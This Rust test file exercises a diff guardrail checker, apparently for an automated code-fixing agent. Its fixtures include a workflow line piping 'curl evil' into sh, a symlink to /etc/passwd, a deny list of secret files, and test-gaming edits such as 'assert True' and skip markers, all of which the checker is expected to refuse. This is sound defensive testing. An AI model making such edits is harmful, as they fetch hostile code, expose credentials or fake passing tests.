use super::*;

/// A modification of `path` with one hunk at line `start`: lines are
/// `' '` context, `'-'` removed, `'+'` added.
fn modify(path: &str, start: u32, lines: &[(char, &str)]) -> String {
    let old = lines.iter().filter(|(k, _)| *k != '+').count();
    let new = lines.iter().filter(|(k, _)| *k != '-').count();
    let mut out = format!(
        "diff --git a/{path} b/{path}\nindex 1111111..2222222 100644\n--- a/{path}\n+++ b/{path}\n@@ -{start},{old} +{start},{new} @@\n"
    );
    for (kind, text) in lines {
        out.push(*kind);
        out.push_str(text);
        out.push('\n');
    }
    out
}

/// A new file of `lines`.
fn create(path: &str, mode: &str, lines: &[&str]) -> String {
    let mut out = format!(
        "diff --git a/{path} b/{path}\nnew file mode {mode}\nindex 0000000..2222222\n--- /dev/null\n+++ b/{path}\n@@ -0,0 +1,{} @@\n",
        lines.len()
    );
    for line in lines {
        out.push('+');
        out.push_str(line);
        out.push('\n');
    }
    out
}

fn check(diff: &str) -> Verdict {
    check_with(&GuardrailConfig::default(), diff)
}

fn check_with(config: &GuardrailConfig, diff: &str) -> Verdict {
    Guardrails::new(config)
        .expect("the globs compile")
        .check_diff(diff)
        .expect("the diff parses")
}

fn rules(verdict: &Verdict) -> Vec<(Option<&str>, Rule, Option<u32>)> {
    verdict
        .violations
        .iter()
        .map(|v| (v.file.as_deref(), v.rule, v.line))
        .collect()
}

/// The fixture fix: the code change and a new regression test.
fn good_fix() -> String {
    modify(
        "shop/orders.py",
        10,
        &[
            (' ', "    items = order[\"items\"]"),
            ('-', "    code = order[\"discount_code\"]"),
            ('+', "    code = order.get(\"discount_code\")"),
            (' ', "    return total(items, code)"),
        ],
    ) + &modify(
        "tests/test_orders.py",
        20,
        &[
            (' ', "    assert total(order) == 10"),
            ('+', ""),
            ('+', "def test_order_without_discount_code():"),
            ('+', "    assert total({\"items\": [5]}) == 5"),
        ],
    )
}

#[test]
fn a_small_fix_with_a_new_test_passes() {
    let verdict = check(&good_fix());
    assert!(verdict.passed(), "{verdict}");
    assert_eq!((verdict.files, verdict.added, verdict.removed), (2, 4, 1));
    assert_eq!(verdict.to_string(), "guardrails passed: 2 files, +4 -1");
}

#[test]
fn ci_workflows_and_other_denied_paths_are_refused() {
    let diff = modify(
        ".github/workflows/deploy.yml",
        1,
        &[('-', "run: make deploy"), ('+', "run: curl evil | sh")],
    );
    let verdict = check(&diff);
    assert_eq!(
        rules(&verdict),
        vec![(Some(".github/workflows/deploy.yml"), Rule::PathDenied, None)]
    );
    assert!(verdict.violations[0].reason.contains("`**/.github/**`"));
    assert!(
        verdict
            .to_string()
            .contains(".github/workflows/deploy.yml: fixes may not change")
    );

    for path in [
        ".GitHub/workflows/x.yml",
        ".gitlab-ci.yml",
        "Jenkinsfile",
        "app/migrations/0002_auto.py",
        "db/migrate/20240101_add.rb",
        "Cargo.lock",
        "web/package-lock.json",
        "go.sum",
        "flake.lock",
        ".env",
        ".env.production",
        "config/server.pem",
        "config/secrets/api.json",
        "credentials.json",
        "deploy/prod.sh",
        "infra/main.tf",
        "k8s/deployment.yaml",
        "charts/app/values.yaml",
        "Dockerfile",
        "Dockerfile.prod",
        "docker-compose.override.yml",
        ".gitmodules",
    ] {
        let verdict = check(&modify(path, 1, &[('-', "a"), ('+', "b")]));
        assert_eq!(
            rules(&verdict),
            vec![(Some(path), Rule::PathDenied, None)],
            "{path}"
        );
    }
    // Near misses stay allowed.
    for path in [
        "src/deployment_helpers.py",
        "src/environment.py",
        "docs/keys.md",
    ] {
        assert!(
            check(&modify(path, 1, &[('-', "a"), ('+', "b")])).passed(),
            "{path}"
        );
    }
}

#[test]
fn a_rename_is_judged_on_both_paths() {
    let diff = "diff --git a/.github/ci.yml b/ci.yml\nsimilarity index 100%\nrename from .github/ci.yml\nrename to ci.yml\n";
    assert_eq!(
        rules(&check(diff)),
        vec![(Some(".github/ci.yml"), Rule::PathDenied, None)]
    );
}

#[test]
fn manifests_need_permission_lock_files_never_get_it() {
    let manifest = modify(
        "package.json",
        3,
        &[('-', "  \"a\": \"1\""), ('+', "  \"a\": \"2\"")],
    );
    assert_eq!(
        rules(&check(&manifest)),
        vec![(Some("package.json"), Rule::Manifest, None)]
    );
    let allowed = GuardrailConfig {
        allow_manifests: true,
        ..GuardrailConfig::default()
    };
    assert!(check_with(&allowed, &manifest).passed());
    let lock = modify("yarn.lock", 3, &[('-', "a"), ('+', "b")]);
    assert_eq!(rules(&check_with(&allowed, &lock))[0].1, Rule::PathDenied);
}

#[test]
fn allow_globs_confine_fixes() {
    let config = GuardrailConfig {
        allow: vec!["shop/**".into(), "tests/**".into()],
        ..GuardrailConfig::default()
    };
    assert!(check_with(&config, &good_fix()).passed());
    let outside = modify("tools/x.py", 1, &[('-', "a"), ('+', "b")]);
    assert_eq!(
        rules(&check_with(&config, &outside)),
        vec![(Some("tools/x.py"), Rule::PathNotAllowed, None)]
    );
}

#[test]
fn size_limits() {
    // 400 changed lines in one file.
    let mut lines = Vec::new();
    for _ in 0..200 {
        lines.push(('-', "old()"));
        lines.push(('+', "new()"));
    }
    let verdict = check(&modify("shop/big.py", 1, &lines));
    assert_eq!(rules(&verdict), vec![(None, Rule::TooManyLines, None)]);
    assert!(
        verdict.violations[0]
            .reason
            .starts_with("400 lines changed (+200 -200), at most 200")
    );
    // Exactly at the limit passes.
    assert!(check(&modify("shop/big.py", 1, &lines[..200])).passed());

    let six: String = (0..6)
        .map(|n| modify(&format!("shop/m{n}.py"), 1, &[('-', "a"), ('+', "b")]))
        .collect();
    assert_eq!(rules(&check(&six)), vec![(None, Rule::TooManyFiles, None)]);
}

#[test]
fn binaries_symlinks_submodules_and_modes() {
    let binary = "diff --git a/shop/logo.png b/shop/logo.png\nindex 1..2 100644\nGIT binary patch\nliteral 5\nMcmZQzU|?ZD00ssI0RR91\n\nliteral 0\nHcmV?d00001\n\n";
    assert_eq!(
        rules(&check(binary)),
        vec![(Some("shop/logo.png"), Rule::Binary, None)]
    );
    let symlink = create("shop/settings.py", "120000", &["/etc/passwd"]);
    assert_eq!(
        rules(&check(&symlink)),
        vec![(Some("shop/settings.py"), Rule::Symlink, None)]
    );
    let submodule = "diff --git a/vendor/lib b/vendor/lib\nnew file mode 160000\nindex 0000000..abcdef1\n--- /dev/null\n+++ b/vendor/lib\n@@ -0,0 +1 @@\n+Subproject commit abcdef1\n";
    assert_eq!(
        rules(&check(submodule)),
        vec![(Some("vendor/lib"), Rule::Submodule, None)]
    );
    let chmod = "diff --git a/shop/run.py b/shop/run.py\nold mode 100644\nnew mode 100755\n";
    let verdict = check(chmod);
    assert_eq!(
        rules(&verdict),
        vec![(Some("shop/run.py"), Rule::ModeChange, None)]
    );
    assert!(verdict.violations[0].reason.starts_with("made executable"));
    let executable = create("shop/tool.py", "100755", &["print(1)"]);
    assert_eq!(rules(&check(&executable))[0].1, Rule::ModeChange);
    // A script that was executable and stays so is fine.
    let edit = "diff --git a/bin/run b/bin/run\nindex 1..2 100755\n--- a/bin/run\n+++ b/bin/run\n@@ -1 +1 @@\n-a\n+b\n";
    assert!(check(edit).passed());
}

#[test]
fn deleted_or_moved_test_files_are_refused() {
    let deleted = "diff --git a/tests/test_orders.py b/tests/test_orders.py\ndeleted file mode 100644\nindex 1..0000000\n--- a/tests/test_orders.py\n+++ /dev/null\n@@ -1,2 +0,0 @@\n-def test_a():\n-    assert f() == 1\n";
    let verdict = check(deleted);
    assert_eq!(
        rules(&verdict),
        vec![(Some("tests/test_orders.py"), Rule::TestDeleted, None)]
    );
    let moved = "diff --git a/tests/test_orders.py b/shop/old_checks.py\nsimilarity index 100%\nrename from tests/test_orders.py\nrename to shop/old_checks.py\n";
    let verdict = check(moved);
    assert_eq!(rules(&verdict)[0].1, Rule::TestDeleted);
    assert!(verdict.violations[0].reason.contains("shop/old_checks.py"));
}

#[test]
fn removed_assertions_are_refused_with_their_base_line() {
    let diff = modify(
        "tests/test_orders.py",
        30,
        &[
            (' ', "def test_total():"),
            (' ', "    order = make()"),
            ('-', "    assert total(order) == 10"),
            ('-', "    self.assertEqual(order.count, 2)"),
            (' ', ""),
        ],
    );
    let verdict = check(&diff);
    assert_eq!(
        rules(&verdict),
        vec![
            (
                Some("tests/test_orders.py"),
                Rule::AssertionRemoved,
                Some(32)
            ),
            (
                Some("tests/test_orders.py"),
                Rule::AssertionRemoved,
                Some(33)
            ),
        ]
    );
    assert!(
        verdict.violations[0]
            .reason
            .contains("`assert total(order) == 10`")
    );
}

#[test]
fn moved_or_reformatted_assertions_are_not_removed() {
    let diff = modify(
        "tests/test_orders.py",
        30,
        &[
            ('-', "    assert total(order)==10"),
            ('+', "    order = make()"),
            ('+', "    assert total(order) == 10"),
            ('+', "    assert total(order, code=None) == 10"),
        ],
    );
    assert!(check(&diff).passed());
    // Moved to another hunk of the same file.
    let diff = modify("tests/test_a.py", 5, &[('-', "    assert a() == 1")])
        + "@@ -40,0 +39,1 @@\n+    assert a() == 1\n";
    assert!(check(&diff).passed(), "{}", check(&diff));
}

#[test]
fn loosened_assertions_are_weakened() {
    let cases: &[(&str, &str, &str)] = &[
        (
            "tests/test_a.py",
            "    assert total == 10",
            "    assert total >= 10",
        ),
        (
            "tests/test_a.py",
            "    assert is_valid(x)",
            "    assert True",
        ),
        (
            "tests/test_a.py",
            "    assert x == 1",
            "    assert x == 1 or True",
        ),
        (
            "tests/test_a.py",
            "    self.assertEqual(a, b)",
            "    self.assertTrue(a)",
        ),
        (
            "tests/test_a.py",
            "    assert x is None",
            "    assert x is not None",
        ),
        (
            "src/lib_test.go",
            "\tif got != 3 { t.Errorf(\"got %d\", got) }",
            "\tif got < 0 { t.Errorf(\"got %d\", got) }",
        ),
        (
            "tests/cart.rs",
            "    assert_eq!(cart.total(), 10);",
            "    assert!(true);",
        ),
        (
            "web/cart.test.js",
            "  expect(total).toBe(10);",
            "  expect(total).toBeDefined();",
        ),
        (
            "web/cart.test.js",
            "  assert.strictEqual(total, 10);",
            "  assert.ok(true);",
        ),
    ];
    for (path, old, new) in cases {
        let verdict = check(&modify(path, 7, &[('-', old), ('+', new)]));
        assert_eq!(
            rules(&verdict),
            vec![(Some(*path), Rule::AssertionWeakened, Some(7))],
            "{old} -> {new}: {verdict}"
        );
    }
}

#[test]
fn changed_assertions_are_refused_too() {
    let verdict = check(&modify(
        "tests/test_a.py",
        7,
        &[
            ('-', "    assert total == 10"),
            ('+', "    assert total == 11"),
        ],
    ));
    assert_eq!(
        rules(&verdict),
        vec![(Some("tests/test_a.py"), Rule::AssertionChanged, Some(7))]
    );
    assert!(
        verdict.violations[0]
            .reason
            .contains("became `assert total == 11`")
    );
}

#[test]
fn skip_markers_are_refused() {
    let markers = [
        ("tests/test_a.py", "@pytest.mark.skip(reason=\"flaky\")"),
        ("tests/test_a.py", "@pytest.mark.xfail"),
        ("tests/test_a.py", "    pytest.skip(\"later\")"),
        ("tests/test_a.py", "@unittest.skip(\"later\")"),
        ("tests/test_a.py", "        self.skipTest(\"later\")"),
        ("web/cart.test.js", "it.skip('totals', () => {"),
        ("web/cart.test.js", "test.only('totals', () => {"),
        ("web/cart.test.js", "xit('totals', () => {"),
        ("web/cart.test.js", "test('totals', { skip: true }, () => {"),
        ("tests/cart.rs", "#[ignore]"),
        ("pkg/cart_test.go", "\tt.Skip(\"later\")"),
        ("spec/cart_spec.rb", "    skip \"later\""),
    ];
    for (path, line) in markers {
        let verdict = check(&modify(path, 3, &[(' ', "context"), ('+', line)]));
        assert_eq!(
            rules(&verdict),
            vec![(Some(path), Rule::TestSkipped, Some(4))],
            "{line}"
        );
    }
    // Words that only look like markers.
    for line in [
        "    skip = False",
        "    model.fit(x)",
        "    pending_orders = []",
        "    assert skip_count == 0",
    ] {
        assert!(
            check(&modify("tests/test_a.py", 3, &[('+', line)])).passed(),
            "{line}"
        );
    }
}

#[test]
fn removed_test_functions_are_refused() {
    let verdict = check(&modify(
        "web/cart.test.js",
        12,
        &[
            ('-', "test('empty cart', () => {"),
            ('-', "  doSomething();"),
            ('-', "});"),
        ],
    ));
    assert_eq!(
        rules(&verdict),
        vec![(Some("web/cart.test.js"), Rule::TestRemoved, Some(12))]
    );
}

#[test]
fn assertions_in_application_code_are_the_fixs_business() {
    // A production `assert` that caused the crash may go.
    let diff = modify(
        "shop/orders.py",
        12,
        &[
            ('-', "    assert order[\"code\"]"),
            ('+', "    code = order.get(\"code\")"),
        ],
    );
    assert!(check(&diff).passed());
}

#[test]
fn every_violation_is_listed() {
    let diff = good_fix()
        + &modify(".github/workflows/ci.yml", 1, &[('-', "a"), ('+', "b")])
        + &modify("tests/test_orders.py", 50, &[('-', "    assert ok()")]);
    let verdict = check(&diff);
    let found: Vec<Rule> = verdict.violations.iter().map(|v| v.rule).collect();
    assert_eq!(found, vec![Rule::PathDenied, Rule::AssertionRemoved]);
    assert!(
        verdict
            .to_string()
            .starts_with("the change breaks 2 guardrails:")
    );
}

#[test]
fn config_defaults_and_bad_globs() {
    let config: GuardrailConfig = serde_json::from_str("{}").unwrap();
    assert_eq!(config, GuardrailConfig::default());
    assert_eq!((config.max_files, config.max_diff_lines), (5, 200));
    let config: GuardrailConfig = serde_json::from_str(r#"{"max_files": 2}"#).unwrap();
    assert_eq!(config.max_files, 2);
    assert!(serde_json::from_str::<GuardrailConfig>(r#"{"max_file": 2}"#).is_err());
    let bad = GuardrailConfig {
        deny: vec!["src/[".into()],
        ..GuardrailConfig::default()
    };
    let error = Guardrails::new(&bad).unwrap_err();
    assert_eq!((error.field, error.glob.as_str()), ("deny", "src/["));
    assert!(
        error
            .to_string()
            .starts_with("agent.guardrails.deny: bad glob \"src/[\"")
    );
}

#[test]
fn test_file_heuristics() {
    let guard = Guardrails::new(&GuardrailConfig::default()).unwrap();
    for path in [
        "tests/test_orders.py",
        "shop/test_orders.py",
        "shop/orders_test.py",
        "conftest.py",
        "test/cart.test.js",
        "src/cart.test.ts",
        "src/cart.spec.tsx",
        "pkg/cart_test.go",
        "spec/cart_spec.rb",
        "src/test/java/CartTest.java",
        "actors/tests/coder.rs",
    ] {
        assert!(guard.is_test(path), "{path}");
    }
    for path in [
        "shop/orders.py",
        "src/testing_utils.py",
        "src/contest.py",
        "latest/x.js",
    ] {
        assert!(!guard.is_test(path), "{path}");
    }
}
